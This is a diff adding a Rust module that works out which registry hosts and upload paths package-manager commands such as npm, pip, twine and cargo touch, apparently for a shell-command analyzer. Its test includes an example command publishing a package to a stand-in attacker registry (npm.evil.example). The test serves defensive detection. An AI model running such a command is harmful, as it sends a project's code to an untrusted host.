@@ -1,0 +1,121 @@
+//! Package managers (`npm`, `pnpm`, `yarn`, `bun`, `cargo`, `pip`, `twine`, `gem`, `poetry`,
+//! `uv`): a publish uploads the package to its registry; a custom registry or index named on
+//! the command line is a host too.
+
+use super::super::facts::{Analyzer, CommandContext, NetUse};
+use super::super::host::{loose_host, url_host};
+use super::super::options::{parse_opts, Arg};
+
+impl Analyzer {
+    pub(super) fn pkg(&mut self, name: &str, args: &[Arg], ctx: &mut CommandContext) {
+        let short = match name {
+            "pip" => "ircetd",
+            "twine" => "rupci",
+            "poetry" => "rup",
+            "gem" => "k",
+            _ => "",
+        };
+        let p = parse_opts(args, short, PKG_LONG, false);
+        let mut nu = NetUse { tool: name.to_string(), ..Default::default() };
+        for (k, v) in &p.options {
+            let Some(v) = v else { continue };
+            match k.as_str() {
+                "--registry" | "--index" | "--index-url" | "--extra-index-url" | "--repository-url" | "--host"
+                | "--publish-url" | "-i" => nu.hosts.extend(loose_host(&v.host)),
+                "-r" | "--requirement" | "-c" | "--constraint" if name == "pip" => self.read_arg(v, ctx),
+                _ => {}
+            }
+        }
+        let mut pos: &[Arg] = &p.operands;
+        if name == "yarn" && pos.first().is_some_and(|a| a.text == "npm") {
+            pos = &pos[1..];
+        }
+        let sub = pos.first().map(|a| a.text.as_str()).unwrap_or("");
+        let publish = match name {
+            "twine" => sub == "upload",
+            "gem" => sub == "push",
+            _ => sub == "publish",
+        };
+        for a in pos.iter().skip(1) {
+            if a.text.contains("://") {
+                nu.hosts.extend(url_host(&a.host));
+            }
+        }
+        if publish {
+            let files: Vec<String> = pos.iter().skip(1).map(|a| a.text.clone()).collect();
+            if files.is_empty() {
+                nu.upload_paths.push(if matches!(name, "twine" | "uv") { "dist/*".into() } else { ".".into() });
+            }
+            for f in files {
+                if !f.contains("://") {
+                    nu.add_upload(&f);
+                }
+            }
+            if nu.hosts.is_empty() {
+                let d = match name {
+                    "yarn" => "registry.yarnpkg.com",
+                    "cargo" => "crates.io",
+                    "twine" | "poetry" | "uv" => "upload.pypi.org",
+                    "gem" => "rubygems.org",
+                    _ => "registry.npmjs.org",
+                };
+                nu.hosts.push(d.into());
+            }
+            self.push_net(ctx, nu, false);
+        } else if !nu.hosts.is_empty() {
+            self.push_net(ctx, nu, false);
+        }
+    }
+}
+
+const PKG_LONG: &[&str] = &[
+    "registry",
+    "otp",
+    "tag",
+    "access",
+    "index",
+    "token",
+    "repository",
+    "repository-url",
+    "index-url",
+    "extra-index-url",
+    "host",
+    "manifest-path",
+    "package",
+    "username",
+    "password",
+    "config-file",
+    "cert",
+    "client-cert",
+    "sign-with",
+    "identity",
+    "comment",
+    "requirement",
+    "constraint",
+    "target",
+    "workspace",
+    "publish-url",
+    "features",
+    "jobs",
+    "key",
+    "dist-tag",
+    "editable",
+    "trusted-host",
+    "prefix",
+];
+
+#[cfg(test)]
+mod tests {
+    use crate::flow::shell::test_util::{net, one, s};
+
+    #[test]
+    fn publish_goes_to_the_registry() {
+        let n = one("npm publish --registry https://npm.evil.example/");
+        assert_eq!(n.hosts, s(&["npm.evil.example"]));
+        let n = one("cargo publish");
+        assert_eq!(n.hosts, s(&["crates.io"]));
+        let n = one("twine upload dist/*");
+        assert_eq!(n.upload_paths, s(&["dist/*"]));
+        assert!(net("npm install && npm test && cargo build --release").is_empty());
+    }
+}
